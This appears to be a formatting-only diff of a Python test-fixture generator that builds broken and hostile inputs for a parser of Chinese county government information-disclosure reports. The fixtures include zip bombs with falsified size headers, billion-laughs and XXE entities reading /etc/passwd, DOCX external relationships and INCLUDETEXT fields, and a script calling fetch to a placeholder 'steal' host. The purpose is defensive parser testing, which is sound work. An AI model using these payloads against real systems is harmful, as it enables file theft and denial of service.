@@ -3,6 +3,7 @@
 Everything is generated: reportlab and PIL for PDFs and pictures, python-docx and zipfile for Word files, byte
 surgery for broken ones. No binary file is checked in.
 """
+
 from __future__ import annotations
 
 import io
@@ -14,6 +15,7 @@ from conftest import ROOT
 from fixtures import _cjk_font, make_report_docx, make_report_pdf, report_html
 
 RAW = ROOT / "data" / "raw"
+
 
 def _png(width: int = 600, height: int = 400, table: bool = True) -> bytes:
     """A picture: a ruled table with numbers drawn as pixels, or grey bars like a scanned page."""
@@ -57,8 +59,14 @@ SECTION_PROSE = {
     3: "本年度共收到政府信息公开申请20件，上年结转2件，办结21件，结转下年度继续办理1件。",
     4: "本年度发生政府信息公开行政复议案件1件，行政诉讼案件4件。",
 }
-HEADINGS = ["一、总体情况", "二、主动公开政府信息情况", "三、收到和处理政府信息公开申请情况",
-            "四、政府信息公开行政复议、行政诉讼情况", "五、存在的主要问题及改进情况", "六、其他需要报告的事项"]
+HEADINGS = [
+    "一、总体情况",
+    "二、主动公开政府信息情况",
+    "三、收到和处理政府信息公开申请情况",
+    "四、政府信息公开行政复议、行政诉讼情况",
+    "五、存在的主要问题及改进情况",
+    "六、其他需要报告的事项",
+]
 
 
 def make_picture_tables_pdf(path: Path) -> Path:
@@ -79,11 +87,15 @@ def make_picture_tables_pdf(path: Path) -> Path:
 
 
 def picture_tables_html() -> str:
-    body = "".join(f"<p>{h}</p><p>{SECTION_PROSE.get(k, '本年度各项工作有序推进，取得积极成效。')}</p>"
-                   + (f'<p><img src="table{k}.png" alt="表{k}"></p>' if k in SECTION_PROSE else "")
-                   for k, h in enumerate(HEADINGS, start=1))
-    return (f'<html><head><meta charset="utf-8"></head><body><h1>示例县2023年政府信息公开工作年度报告</h1>{body}'
-            f"</body></html>")
+    body = "".join(
+        f"<p>{h}</p><p>{SECTION_PROSE.get(k, '本年度各项工作有序推进，取得积极成效。')}</p>"
+        + (f'<p><img src="table{k}.png" alt="表{k}"></p>' if k in SECTION_PROSE else "")
+        for k, h in enumerate(HEADINGS, start=1)
+    )
+    return (
+        f'<html><head><meta charset="utf-8"></head><body><h1>示例县2023年政府信息公开工作年度报告</h1>{body}'
+        f"</body></html>"
+    )
 
 
 def make_long_report_pdf(path: Path, filler_pages: int) -> Path:
@@ -100,8 +112,10 @@ def make_long_report_pdf(path: Path, filler_pages: int) -> Path:
             for p in range(filler_pages):
                 story.append(platypus.PageBreak())
                 story.append(platypus.Paragraph(f"附件{p + 1}：本机关主动公开的政府信息目录（第{p + 1}页）", st))
-                story += [platypus.Paragraph(f"{p + 1}-{k + 1}　关于印发示例市第{k + 1}号工作方案的通知", st)
-                          for k in range(30)]
+                story += [
+                    platypus.Paragraph(f"{p + 1}-{k + 1}　关于印发示例市第{k + 1}号工作方案的通知", st)
+                    for k in range(30)
+                ]
             return super().build(story, **kwargs)
 
     platypus.SimpleDocTemplate = WithAppendix  # make_report_pdf imports it when called
@@ -126,7 +140,7 @@ def _rebuild_xref(pdf: bytes) -> bytes:
     size = max(offsets) + 1
     table = b"xref\n0 %d\n0000000000 65535 f \n" % size
     table += b"".join(b"%010d 00000 n \n" % offsets[i] for i in range(1, size))
-    trailer = pdf[pdf.index(b"trailer", body_end):pdf.rindex(b"startxref")]
+    trailer = pdf[pdf.index(b"trailer", body_end) : pdf.rindex(b"startxref")]
     return pdf[:body_end] + table + trailer + b"startxref\n%d\n%%%%EOF\n" % body_end
 
 
@@ -142,12 +156,14 @@ def encrypt_font_strings(pdf: bytes, password: str = "") -> bytes:
 
     def fix(m):
         objid = int(m.group(1))
-        body = re.sub(rb"\((Adobe|GB1)\)",
-                      lambda s: b"<" + doc.decipher(objid, 0, s.group(1)).hex().encode() + b">", m.group(2))
+        body = re.sub(
+            rb"\((Adobe|GB1)\)", lambda s: b"<" + doc.decipher(objid, 0, s.group(1)).hex().encode() + b">", m.group(2)
+        )
         return m.group(1) + b" 0 obj" + body + b"endobj"
 
-    fixed = re.sub(rb"(?s)(?<=\n)(\d+) 0 obj(.*?)endobj",
-                   lambda m: fix(m) if b"CIDSystemInfo" in m.group(2) else m.group(0), pdf)
+    fixed = re.sub(
+        rb"(?s)(?<=\n)(\d+) 0 obj(.*?)endobj", lambda m: fix(m) if b"CIDSystemInfo" in m.group(2) else m.group(0), pdf
+    )
     assert fixed != pdf
     return _rebuild_xref(fixed)
 
@@ -156,8 +172,12 @@ def unmapped_glyphs_pdf(pdf: bytes) -> bytes:
     """The report PDF with its CJK font made anonymous: no known font name, an unknown character collection and
     Identity-H codes, so nothing tells a reader which character a glyph is (byte lengths kept, the xref stays
     valid)."""
-    swaps = [(b"(Adobe)", b"(Xdobe)"), (b"(GB1)", b"(XB1)"), (b"STSong-Light", b"XXXXXX-Light"),
-             (b"UniGB-UCS2-H", b"Identity-H  ")]
+    swaps = [
+        (b"(Adobe)", b"(Xdobe)"),
+        (b"(GB1)", b"(XB1)"),
+        (b"STSong-Light", b"XXXXXX-Light"),
+        (b"UniGB-UCS2-H", b"Identity-H  "),
+    ]
     for old, new in swaps:
         assert old in pdf and len(old) == len(new)
         pdf = pdf.replace(old, new)
@@ -180,7 +200,7 @@ def _docx_with(path: Path, edit) -> Path:
     return path
 
 
-def make_zip_bomb_docx(path: Path, size: int = 2 * 1024 ** 3) -> Path:
+def make_zip_bomb_docx(path: Path, size: int = 2 * 1024**3) -> Path:
     """A valid report DOCX plus one member of `size` zeros (2 GB), deflated chunk by chunk: the file is ~2 MB."""
     _docx_with(path, lambda name, content: None)
     chunk = bytes(16 * 1024 * 1024)
@@ -194,6 +214,7 @@ def make_zip_bomb_docx(path: Path, size: int = 2 * 1024 ** 3) -> Path:
 def make_lying_zip_bomb_docx(path: Path, padding: int = 64 * 1024 * 1024) -> Path:
     """A DOCX whose document.xml really inflates to 64 MB more than its headers declare: the sizes in the archive
     look harmless, so only the decompressor's own bound (the declared size) stops it."""
+
     def edit(name, content):
         if name == "word/document.xml":
             return content + b" " * padding
@@ -206,12 +227,12 @@ def make_lying_zip_bomb_docx(path: Path, padding: int = 64 * 1024 * 1024) -> Pat
     declared = info.file_size - padding
     name = b"word/document.xml"
     local = info.header_offset
-    assert data[local:local + 4] == b"PK\x03\x04" and data[local + 30:local + 30 + len(name)] == name
-    data[local + 22:local + 26] = declared.to_bytes(4, "little")  # uncompressed size in the local header
+    assert data[local : local + 4] == b"PK\x03\x04" and data[local + 30 : local + 30 + len(name)] == name
+    data[local + 22 : local + 26] = declared.to_bytes(4, "little")  # uncompressed size in the local header
     central = data.index(b"PK\x01\x02")
-    while data[central + 46:central + 46 + len(name)] != name:
+    while data[central + 46 : central + 46 + len(name)] != name:
         central = data.index(b"PK\x01\x02", central + 4)
-    data[central + 24:central + 28] = declared.to_bytes(4, "little")  # and in the central directory
+    data[central + 24 : central + 28] = declared.to_bytes(4, "little")  # and in the central directory
     path.write_bytes(bytes(data))
     return path
 
@@ -223,21 +244,27 @@ def make_external_rels_docx(path: Path) -> Path:
     """A report DOCX whose relationships point outside the package: a hyperlink, a linked picture, a sub-document,
     an alternative-format chunk and an attached template, to http://example.invalid and file:///etc/passwd, and an
     INCLUDETEXT field naming /etc/passwd."""
-    rels = (f'<Relationship Id="rIdX1" Type="{_REL}hyperlink" Target="http://example.invalid/x" '
-            f'TargetMode="External"/>'
-            f'<Relationship Id="rIdX2" Type="{_REL}image" Target="file:///etc/passwd" TargetMode="External"/>'
-            f'<Relationship Id="rIdX3" Type="{_REL}subDocument" Target="file:///etc/passwd" TargetMode="External"/>'
-            f'<Relationship Id="rIdX4" Type="{_REL}aFChunk" Target="http://example.invalid/chunk.html" '
-            f'TargetMode="External"/>')
-    body = ('<w:p><w:hyperlink r:id="rIdX1"><w:r><w:t>链接</w:t></w:r></w:hyperlink></w:p>'
-            '<w:p><w:fldSimple w:instr="INCLUDETEXT &quot;file:///etc/passwd&quot;"><w:r><w:t>包含</w:t></w:r>'
-            '</w:fldSimple></w:p><w:p><w:subDoc r:id="rIdX3"/></w:p><w:altChunk r:id="rIdX4"/>'
-            '<w:p><w:r><w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" r:id="rIdX2"/></w:pict></w:r>'
-            '</w:p>')
-    settings_rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.'
-                     'openxmlformats.org/package/2006/relationships"><Relationship Id="rIdT" '
-                     f'Type="{_REL}attachedTemplate" Target="http://example.invalid/template.dotm" '
-                     'TargetMode="External"/></Relationships>')
+    rels = (
+        f'<Relationship Id="rIdX1" Type="{_REL}hyperlink" Target="http://example.invalid/x" '
+        f'TargetMode="External"/>'
+        f'<Relationship Id="rIdX2" Type="{_REL}image" Target="file:///etc/passwd" TargetMode="External"/>'
+        f'<Relationship Id="rIdX3" Type="{_REL}subDocument" Target="file:///etc/passwd" TargetMode="External"/>'
+        f'<Relationship Id="rIdX4" Type="{_REL}aFChunk" Target="http://example.invalid/chunk.html" '
+        f'TargetMode="External"/>'
+    )
+    body = (
+        '<w:p><w:hyperlink r:id="rIdX1"><w:r><w:t>链接</w:t></w:r></w:hyperlink></w:p>'
+        '<w:p><w:fldSimple w:instr="INCLUDETEXT &quot;file:///etc/passwd&quot;"><w:r><w:t>包含</w:t></w:r>'
+        '</w:fldSimple></w:p><w:p><w:subDoc r:id="rIdX3"/></w:p><w:altChunk r:id="rIdX4"/>'
+        '<w:p><w:r><w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" r:id="rIdX2"/></w:pict></w:r>'
+        "</w:p>"
+    )
+    settings_rels = (
+        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.'
+        'openxmlformats.org/package/2006/relationships"><Relationship Id="rIdT" '
+        f'Type="{_REL}attachedTemplate" Target="http://example.invalid/template.dotm" '
+        'TargetMode="External"/></Relationships>'
+    )
 
     def edit(name, content):
         if name is None:
@@ -252,8 +279,12 @@ def make_external_rels_docx(path: Path) -> Path:
 
 
 def _laughs(levels: int = 9) -> str:
-    return ('<!ENTITY lol "lol"><!ENTITY lol1 "' + "&lol;" * 10 + '">'
-            + "".join(f'<!ENTITY lol{i} "' + f"&lol{i - 1};" * 10 + '">' for i in range(2, levels + 1)))
+    return (
+        '<!ENTITY lol "lol"><!ENTITY lol1 "'
+        + "&lol;" * 10
+        + '">'
+        + "".join(f'<!ENTITY lol{i} "' + f"&lol{i - 1};" * 10 + '">' for i in range(2, levels + 1))
+    )
 
 
 def make_entity_docx(path: Path, laughs: bool) -> Path:
@@ -275,9 +306,14 @@ def make_not_a_report_docx(path: Path) -> Path:
     import docx
 
     d = docx.Document()
-    for text in ("关于召开2024年第一季度安全生产工作会议的通知", "各乡镇人民政府，县直各单位：",
-                 "经研究，定于2024年3月15日上午9时在县政府三楼会议室召开全县安全生产工作会议，请准时参加。",
-                 "参会人员：各单位分管负责同志1名。", "示例县人民政府办公室", "2024年3月10日"):
+    for text in (
+        "关于召开2024年第一季度安全生产工作会议的通知",
+        "各乡镇人民政府，县直各单位：",
+        "经研究，定于2024年3月15日上午9时在县政府三楼会议室召开全县安全生产工作会议，请准时参加。",
+        "参会人员：各单位分管负责同志1名。",
+        "示例县人民政府办公室",
+        "2024年3月10日",
+    ):
         d.add_paragraph(text)
     d.save(str(path))
     return path
@@ -289,11 +325,13 @@ def hostile_html() -> str:
     dtd = '<!DOCTYPE html [<!ENTITY xxe SYSTEM "file:///etc/passwd">' + _laughs() + "]>"
     page = report_html().replace('<meta charset="gbk">', '<meta charset="utf-8">')
     page = page.replace("<!DOCTYPE html>", '<?xml version="1.0"?>' + dtd, 1)
-    evil = ('<script>document.write("<p>一、总体情况</p>"); fetch("http://example.invalid/steal")</script>'
-            '<iframe src="file:///etc/passwd"></iframe><iframe src="http://example.invalid/frame"></iframe>'
-            '<object data="file:///etc/passwd"></object><img src="http://example.invalid/pixel.gif">'
-            '<link rel="stylesheet" href="http://example.invalid/s.css"><p>&xxe;&lol9;</p>'
-            '<svg><use href="file:///etc/passwd#x"/></svg><base href="http://example.invalid/">')
+    evil = (
+        '<script>document.write("<p>一、总体情况</p>"); fetch("http://example.invalid/steal")</script>'
+        '<iframe src="file:///etc/passwd"></iframe><iframe src="http://example.invalid/frame"></iframe>'
+        '<object data="file:///etc/passwd"></object><img src="http://example.invalid/pixel.gif">'
+        '<link rel="stylesheet" href="http://example.invalid/s.css"><p>&xxe;&lol9;</p>'
+        '<svg><use href="file:///etc/passwd#x"/></svg><base href="http://example.invalid/">'
+    )
     return page.replace("<body>", "<body>" + evil, 1)
 
 
@@ -314,8 +352,11 @@ def big_html(target_bytes: int = 20 * 1024 * 1024) -> bytes:
 def span_bomb_html() -> str:
     """The fixture report page with one more table of 30 cells each spanning 1000 × 1000 grid positions."""
     page = report_html().replace('<meta charset="gbk">', '<meta charset="utf-8">')
-    bomb = '<table border="1">' + "".join(f'<tr><td rowspan="1000" colspan="1000">{i}</td><td>x</td></tr>'
-                                          for i in range(30)) + "</table>"
+    bomb = (
+        '<table border="1">'
+        + "".join(f'<tr><td rowspan="1000" colspan="1000">{i}</td><td>x</td></tr>' for i in range(30))
+        + "</table>"
+    )
     return page.replace("<p>四、", bomb + "<p>四、", 1)
 
 
@@ -398,22 +439,30 @@ def build_office_bad_inputs(d: Path, put) -> None:
     (d / "docx.tmp").unlink()
     pdf = make_report_pdf(d / "pdf.tmp").read_bytes()
     (d / "pdf.tmp").unlink()
-    put("encrypted.docx", "a password-protected .docx (an OLE2 file holding EncryptedPackage)",
-        encrypted_office(docx))
+    put("encrypted.docx", "a password-protected .docx (an OLE2 file holding EncryptedPackage)", encrypted_office(docx))
     put("encrypted.xlsx", "a password-protected .xlsx", encrypted_office(xlsx_bytes()))
     put("truncated.doc", "an OLE2 file cut to its first 1500 bytes", encrypted_office(docx)[:1500])
     put("report-pdf.doc", "the fixture PDF saved with a .doc name", pdf)
     put("report-docx.zip", "the fixture Word file saved with a .zip name", docx)
     put("report-pdf.wps", "the fixture PDF saved with a .wps name", pdf)
-    put("corrupt.xlsx", "a workbook whose workbook.xml is not XML",
-        _zip({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook <<", "xl/x": b"1"}))
-    _zeros_zip(d / "zip-bomb.xlsx", "xl/media/zeros.bin", 320 * 1024 * 1024,
-               {"xl/workbook.xml": b"<workbook/>"})
+    put(
+        "corrupt.xlsx",
+        "a workbook whose workbook.xml is not XML",
+        _zip({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook <<", "xl/x": b"1"}),
+    )
+    _zeros_zip(d / "zip-bomb.xlsx", "xl/media/zeros.bin", 320 * 1024 * 1024, {"xl/workbook.xml": b"<workbook/>"})
     put("zip-bomb.xlsx", "a workbook with a member of 320 MB of zeros")
     put("corrupt.ofd", "an OFD whose OFD.xml is not XML", _zip({"OFD.xml": b"<ofd:OFD <<"}))
-    put("no-pages.ofd", "an OFD naming a Document.xml it does not hold",
-        _zip({"OFD.xml": b'<ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016"><ofd:DocBody><ofd:DocRoot>'
-                         b"Doc_0/Document.xml</ofd:DocRoot></ofd:DocBody></ofd:OFD>"}))
+    put(
+        "no-pages.ofd",
+        "an OFD naming a Document.xml it does not hold",
+        _zip(
+            {
+                "OFD.xml": b'<ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016"><ofd:DocBody><ofd:DocRoot>'
+                b"Doc_0/Document.xml</ofd:DocRoot></ofd:DocBody></ofd:OFD>"
+            }
+        ),
+    )
     _zeros_zip(d / "zip-bomb.ofd", "Doc_0/zeros.bin", 320 * 1024 * 1024, {"OFD.xml": b"<OFD/>"})
     put("zip-bomb.ofd", "an OFD with a member of 320 MB of zeros")
     put("corrupt.zip", "a zip signature followed by noise", b"PK\x03\x04" + bytes(range(256)) * 8)
@@ -451,12 +500,18 @@ def build_bad_inputs(d: Path) -> dict[str, str]:
     put("truncated-tail.pdf", "PDF missing its last 300 bytes (xref and trailer)", good_pdf[:-300])
     put("broken-xref.pdf", "PDF with every xref offset and startxref garbage", break_xref(good_pdf))
     make_report_pdf(d / "encrypted-empty.pdf", encrypt_user_password="")
-    put("encrypted-empty.pdf", "encrypted PDF, empty user password",
-        encrypt_font_strings((d / "encrypted-empty.pdf").read_bytes()))
+    put(
+        "encrypted-empty.pdf",
+        "encrypted PDF, empty user password",
+        encrypt_font_strings((d / "encrypted-empty.pdf").read_bytes()),
+    )
     make_report_pdf(d / "encrypted-secret.pdf", encrypt_user_password="secret")
     put("encrypted-secret.pdf", "encrypted PDF, user password 'secret'")
-    put("glyphs-without-unicode.pdf", "PDF whose CJK font lost its Unicode mapping (text layer reads as (cid:N))",
-        unmapped_glyphs_pdf(make_report_pdf(d / "glyphs-base.pdf").read_bytes()))
+    put(
+        "glyphs-without-unicode.pdf",
+        "PDF whose CJK font lost its Unicode mapping (text layer reads as (cid:N))",
+        unmapped_glyphs_pdf(make_report_pdf(d / "glyphs-base.pdf").read_bytes()),
+    )
     (d / "glyphs-base.pdf").unlink()
     make_scanned_pdf(d / "scanned.pdf")
     put("scanned.pdf", "image-only PDF (a scan)")
@@ -466,8 +521,11 @@ def build_bad_inputs(d: Path) -> dict[str, str]:
     put("tables-as-pictures.pdf", "text report whose three tables are pictures")
     put("tables-as-pictures.html", "HTML report whose three tables are <img>", picture_tables_html())
     put("fake.pdf", "HTML saved with a .pdf name", "<html><body><p>hello</p></body></html>")
-    put("gbk-no-charset.html", "corpus page in GB18030 without a charset declaration",
-        html_without_charset("pingtan-2025.html"))
+    put(
+        "gbk-no-charset.html",
+        "corpus page in GB18030 without a charset declaration",
+        html_without_charset("pingtan-2025.html"),
+    )
     put("hostile.html", "script, iframe, object, billion laughs and XXE in a report page", hostile_html())
     put("big-20mb.html", "20 MB report page", big_html())
     put("span-bomb.html", "report page plus a table of 30 cells spanning 1000x1000", span_bomb_html())
@@ -493,7 +551,10 @@ def build_bad_inputs(d: Path) -> dict[str, str]:
     put("noise.txt", "binary noise", bytes(range(256)) * 256)
     put("marker-line.txt", "30 MB line of 一、一、… (15 million headings)", ("一、" * 5_000_000).encode("utf-8"))
     put("pipe-line.txt", "5 MB line of pipes (a 2.5-million-cell table row)", "a" + "|1" * 2_500_000)
-    put("news.txt", "a news item, not an annual report",
-        "本报讯 3月12日，示例县开展植树节义务植树活动，共植树1200余株。\n活动现场气氛热烈，干部群众积极参与。\n")
+    put(
+        "news.txt",
+        "a news item, not an annual report",
+        "本报讯 3月12日，示例县开展植树节义务植树活动，共植树1200余株。\n活动现场气氛热烈，干部群众积极参与。\n",
+    )
     build_office_bad_inputs(d, put)
     return made
